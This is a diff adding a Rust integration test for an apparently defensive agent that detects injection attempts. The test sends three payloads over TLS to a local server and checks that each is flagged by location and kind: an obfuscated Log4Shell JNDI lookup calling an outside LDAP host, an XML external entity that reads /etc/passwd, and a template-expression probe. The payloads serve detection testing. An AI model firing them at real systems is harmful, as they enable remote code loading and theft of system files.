@@ -196,3 +196,59 @@ fn time_based_sqli_confirmed_only_where_the_database_slept() {
     assert!(unconfirmed["evidence"].get("confirmed_by").is_none());
     agent.stop();
 }
+
+/// INJ-3 over real TLS: a Log4Shell lookup in the User-Agent, an XML external entity in a POST
+/// body and a template expression in the query, each named by its location.
+#[test]
+fn jndi_header_xxe_body_and_template_query_over_tls() {
+    if !privileged() {
+        return;
+    }
+    let dir = TempDir::new("inj3");
+    let port = free_port();
+    let server = python_server(&dir, port);
+    let agent = Agent::start(&["--pid", &server.0.id().to_string()]);
+    let base = format!("https://127.0.0.1:{port}");
+    let xxe =
+        r#"<?xml version="1.0"?><!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]><d>&x;</d>"#;
+    for args in [
+        vec![
+            "-A".to_owned(),
+            "${${lower:j}ndi:ldap://198.51.100.7:1389/a}".to_owned(),
+            format!("{base}/api/items"),
+        ],
+        vec![
+            "-H".to_owned(),
+            "Content-Type: application/xml".to_owned(),
+            "--data-binary".to_owned(),
+            xxe.to_owned(),
+            format!("{base}/import"),
+        ],
+        vec![format!("{base}/greet?name=%7B%7B7*7%7D%7D")],
+    ] {
+        let mut all = vec!["-sk", "-o", "/dev/null"];
+        all.extend(args.iter().map(String::as_str));
+        run_client(&mut curl(&all));
+    }
+    let findings = agent.wait_events(3, WAIT, |e| e["rule"]["id"] == "INJ-3");
+    let by_path = |path: &str| {
+        findings
+            .iter()
+            .find(|f| f["exchange"]["request"]["path"] == path)
+            .unwrap_or_else(|| panic!("no INJ-3 on {path}: {findings:#?}"))
+    };
+    for (path, kind, input) in [
+        ("/api/items", "jndi_lookup", "header.user-agent"),
+        ("/import", "xxe", "body.xml"),
+        ("/greet", "template_injection", "query.name"),
+    ] {
+        let f = by_path(path);
+        assert_eq!(f["evidence"]["kind"], kind, "{f:#}");
+        assert_eq!(f["evidence"]["input"], input, "{f:#}");
+        assert_eq!(f["rule"]["severity"], "high");
+        assert_eq!(f["rule"]["confidence"], "medium");
+        assert_eq!(f["actor"]["client_ip"], "127.0.0.1");
+        assert_eq!(f["exchange"]["process"]["pid"], server.0.id());
+    }
+    agent.stop();
+}
